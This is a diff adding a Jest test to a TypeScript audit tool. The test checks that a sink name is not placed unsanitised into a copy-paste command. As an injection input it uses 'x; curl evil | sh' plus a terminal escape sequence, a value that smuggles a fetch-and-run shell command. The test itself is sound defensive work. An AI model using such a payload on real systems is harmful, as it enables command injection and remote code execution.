@@ -1,5 +1,6 @@
 import { expect, it } from '@jest/globals';
 
+import { heldByText } from '../../src/main/audit-archive-command.ts';
 import { LeftSinks } from '../../src/main/left-sinks.ts';
 
 const HOUR = 3_600_000;
@@ -18,4 +19,11 @@ it('tells once of each sink that nobody serves and that is not configured', asyn
   standing = [];
   await left.look();
   expect(left.now).toEqual([]);
+});
+
+it('puts no name of the database into a command to be pasted', () => {
+  expect(heldByText('siem-2')).toMatch(/twofold audit forget-sink siem-2$/u);
+  const text = heldByText('x; curl evil | sh\u001b[2J');
+  expect(text).toMatch(/twofold audit forget-sink NAME$/u);
+  expect(text).not.toMatch(/\p{C}/u);
 });
